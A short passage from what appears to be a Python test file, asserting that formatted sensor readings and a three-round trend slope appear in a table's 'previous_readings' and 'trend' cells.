            assert f"{sensor} {number(values[1])}{unit}" in cells_of["previous_readings"]
            assert f"{sensor} {reading['slope']:+.1f}{unit} a round (3 rounds)" in cells_of["trend"]
